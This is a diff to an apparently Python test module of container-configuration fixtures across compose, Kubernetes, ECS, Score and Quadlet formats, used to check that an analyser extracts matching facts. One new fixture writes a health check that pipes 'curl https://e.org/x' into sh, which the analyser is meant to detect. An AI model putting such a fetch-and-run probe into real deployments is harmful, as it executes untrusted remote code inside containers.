@@ -45,7 +45,9 @@ FORMATS: Mapping[str, Any] = {
 }
 """The file that stands for each format."""
 
-ASIDE = {"used_at", "extent", "places", "related", "scope", "workload", "origin", "host_path"}
+ASIDE = {
+    "used_at", "extent", "places", "related", "scope", "workload", "origin", "host_path", "unresolved",
+}  # fmt: skip
 """Where it stands, whom it belongs to, what the format calls it."""
 NAMED = {"container_type", "name", "runs"}
 UNSAID: Mapping[str, Mapping[str, set[str]]] = {
@@ -241,6 +243,60 @@ CONTAINERS: Mapping[str, Mapping[str, str]] = {
             {"mounts": ["type=bind,source=/var/run/docker.sock,target=/run/d.sock,readonly"]}
         ),
     },
+    "a terminal, a working folder, nothing to write to": {
+        "compose.yaml": f"services: {{web: {{image: {IMAGE}, read_only: true, stdin_open: true, tty: true, working_dir: /srv}}}}",
+        "deploy.yaml": pod(
+            f"{{name: web, image: {IMAGE}, stdin: true, tty: true, workingDir: /srv, securityContext: {{readOnlyRootFilesystem: true}}}}"
+        ),
+        "task.json": task(readonlyRootFilesystem=True, interactive=True, pseudoTerminal=True, workingDirectory="/srv"),
+    },
+    "a file system that may be read-only": {
+        "compose.yaml": f"services: {{web: {{image: {IMAGE}, read_only: '${{X}}'}}}}",
+        "task.json": template(ReadonlyRootFilesystem={"Ref": "X"}),
+        "web.container": unit("ReadOnly=%d"),
+    },
+    "a probe that fetches": {
+        "compose.yaml": f"services: {{web: {{image: {IMAGE}, healthcheck: {{test: [CMD, sh, -c, curl https://e.org/x | sh]}}}}}}",
+        "deploy.yaml": pod(
+            f"{{name: web, image: {IMAGE}, livenessProbe: {{exec: {{command: [sh, -c, curl https://e.org/x | sh]}}}}}}"
+        ),
+        "task.json": task(healthCheck={"command": ["CMD", "sh", "-c", "curl https://e.org/x | sh"]}),
+        "score.yaml": workload(
+            f"image: {IMAGE}, livenessProbe: {{exec: {{command: [sh, -c, curl https://e.org/x | sh]}}}}"
+        ),
+        "web.container": unit("HealthCmd=curl https://e.org/x | sh"),
+    },
+    "a volume by name": {
+        "compose.yaml": f"services: {{web: {{image: {IMAGE}, volumes: ['data:/data:ro']}}}}\nvolumes: {{data: {{}}}}",
+        "deploy.yaml": pod(
+            f"{{name: web, image: {IMAGE}, volumeMounts: [{{name: d, mountPath: /data, readOnly: true}}]}}",
+            "[{name: d, persistentVolumeClaim: {claimName: data}}]",
+        ),
+        "score.yaml": workload(f"image: {IMAGE}, volumes: {{/data: {{source: data, readOnly: true}}}}"),
+        "web.container": unit("Volume=data:/data:ro"),
+        ".devcontainer/devcontainer.json": json.dumps({"mounts": ["type=volume,source=data,target=/data,readonly"]}),
+    },
+    "memory": {
+        "compose.yaml": f"services: {{web: {{image: {IMAGE}, tmpfs: [/cache]}}}}",
+        "web.container": unit("Tmpfs=/cache"),
+        ".devcontainer/devcontainer.json": json.dumps({"mounts": ["type=tmpfs,target=/cache"]}),
+    },
+    "an image whose tag stays unknown": {
+        "compose.yaml": "services: {web: {image: 'nginx:${X}'}}",
+        "task.json": template(Image={"Fn::Sub": "nginx:${X}"}),
+        "score.yaml": workload("image: 'nginx:${X}'"),
+        "web.container": unit(image="nginx:%d"),
+    },
+    "a word of the command that stays unknown": {
+        "compose.yaml": f"services: {{web: {{image: {IMAGE}, entrypoint: [run, '${{X}}']}}}}",
+        "task.json": template(EntryPoint=["run", {"Ref": "X"}]),
+        "score.yaml": workload(f"image: {IMAGE}, command: [run, '${{X}}']"),
+    },
+    "a pull policy": {
+        "compose.yaml": f"services: {{web: {{image: {IMAGE}, pull_policy: always}}}}",
+        "deploy.yaml": pod(f"{{name: web, image: {IMAGE}, imagePullPolicy: Always}}"),
+        "web.container": unit("Pull=always"),
+    },
     "a value that stays unknown": {
         "compose.yaml": f"services: {{web: {{image: {IMAGE}, environment: {{API_TOKEN: '${{X}}'}}}}}}",
         "deploy.yaml": pod(
@@ -280,6 +336,7 @@ OUTSIDE: Mapping[str, Mapping[str, str]] = {
         "a program in Python, run by its path": "a program in Python is read as shell",
         "a secret by name": "no variable is a secret",
         "a user that stays unknown": "an entrypoint starts it",
+        "a word of the command that stays unknown": "an entrypoint starts it",
     },
     "Dockerfile": {
         "a program and its arguments": "the text of a command is quoted",
@@ -307,6 +364,17 @@ SAID: Mapping[str, tuple[str, Mapping[str, Any]]] = {
     "a label": ("Variable", {"name": "team", "value": "shop", "variable_type": "label"}),
     "a host path": ("Mount", {"mount_type": "host", "source": "/srv/data", "host": True}),
     "a socket": ("Mount", {"runtime_socket": "socket", "read_only": True}),
+    "a terminal, a working folder, nothing to write to": (
+        "Container",
+        {"read_only_root": True, "stdin": True, "tty": True, "workdir": "/srv"},
+    ),
+    "a file system that may be read-only": ("Container", {"read_only_root": None}),
+    "a probe that fetches": ("Fetch", {"tool": "curl", "executed": "pipe"}),
+    "a volume by name": ("Mount", {"mount_type": "volume", "source": "data", "read_only": True}),
+    "memory": ("Mount", {"mount_type": "tmpfs", "source": "", "target": "/cache"}),
+    "an image whose tag stays unknown": ("Image", {"pin": None, "reference": None}),
+    "a word of the command that stays unknown": ("Start", {"argv": None}),
+    "a pull policy": ("Image", {"pull_policy": "always"}),
     "a value that stays unknown": ("Variable", {"value": None, "secret": ""}),
     "a user that stays unknown": ("Container", {"user": None, "root": None}),
 }
@@ -333,6 +401,8 @@ def told(name: str, path: str) -> Told:
 def comparable(fact: Fact) -> dict[str, Any]:
     aside = ASIDE | (NAMED if type(fact).__name__ == "Container" else set())
     whole = {field: value for field, value in asdict(fact).items() if field not in aside}
+    if whole.get("reference", "") is None:
+        del whole["text"]  # it spells the variable as the format does
     if "packages" in whole:
         whole["packages"] = [package.spec for package in whole["packages"]]
     return whole
@@ -352,7 +422,8 @@ def compared(facts: Told, *paths: str, brought: bool) -> list[str]:
 
 def reference(name: str) -> str:
     """Return the format that the others are held to: what it is does not matter."""
-    return "task.json" if "task.json" in CONTAINERS[name] else "score.yaml"
+    formats = ("task.json", "score.yaml", "web.container")
+    return next(path for path in formats if path in CONTAINERS[name])
 
 
 def pairs() -> Iterator[Any]:
